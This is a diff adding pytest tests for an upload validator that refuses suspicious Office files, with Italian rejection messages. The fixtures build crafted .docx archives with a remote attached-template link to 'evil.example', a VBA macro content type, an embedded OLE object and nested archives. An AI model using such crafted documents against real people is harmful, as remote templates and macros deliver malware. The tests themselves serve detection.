@@ -83,13 +83,56 @@ def test_one_wrong_file_keeps_the_others_out_and_each_is_named(store):
     assert stored(store) == []
 
 
+TEMPLATE = (
+    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+TYPES = "<Types/>"
+DOCX = {"[Content_Types].xml": TYPES, "word__document.xml": "<x/>"}
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "says"),
+    [
+        ("modello.docx", zipped(**DOCX, **{"word___rels__settings.xml.rels": TEMPLATE}), "da un altro computer"),
+        ("macro.docx", zipped(**DOCX | {"[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'}), "contiene macro"),
+        ("oggetto.docx", zipped(**DOCX, **{"word__embeddings__oleObject1.bin": b"x" * 300_000 + "Ole10Native".encode("utf-16-le")}), "messo come oggetto"),
+        ("dentro.docx", zipped(**DOCX, **{"word__embeddings__altro.zip": zipped(a="b")}), "un archivio di altri file"),
+        ("lista.docx", zipped(**DOCX, **{"word___rels__document.xml.rels": b" " * 5_000_000}), "non è un documento come quelli"),
+        ("rovinato.docx", zipped(**DOCX, **{"word___rels__document.xml.rels": "<a>"}), "incompleto o rovinato"),
+    ],
+)  # fmt: skip
+def test_what_an_office_file_hides_is_found(store, name, content, says):
+    with pytest.raises(FilesRefused) as refused:
+        take((name, content))
+    assert says in refused.value.messages[0]
+    assert stored(store) == []
+
+
+@pytest.mark.parametrize("member", ["mimetype", "content.xml", "META-INF/x.rels"])
+def test_a_member_that_is_not_what_its_sum_says_is_a_sentence(store, member):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
+        for name in ("mimetype", "content.xml", "META-INF/x.rels"):
+            archive.writestr(name, "application/vnd.oasis.opendocument.text" if name == "mimetype" else "<x/>")
+    content = bytearray(out.getvalue())
+    place = content.index(member.encode()) + len(member)
+    content[place] ^= 1
+    if member == "content.xml":
+        take(("a.odt", bytes(content)))  # nobody reads it here
+        return
+    with pytest.raises(FilesRefused, match="incompleto o rovinato"):
+        take(("a.odt", bytes(content)))
+    assert stored(store) == []
+
+
 def test_the_same_content_twice_is_said(store):
     with pytest.raises(FilesRefused, match="sono lo stesso file"):
         take(("a.txt", b"uguale"), ("b.txt", b"uguale"))
 
 
 def test_office_files_as_they_are_saved_are_taken(store):
-    docx = zipped(**{"[Content_Types].xml": "<x/>", "word__document.xml": "<x/>"})
+    docx = zipped(**DOCX)
     odt = zipped(mimetype="application/vnd.oasis.opendocument.text", **{"content.xml": "<x/>"})
     found = take(("foglio.xlsx", workbook([["a", 1]])), ("testo.docx", docx), ("libero.odt", odt))
     assert [one.file_type for one in found] == ["xlsx", "docx", "odt"]
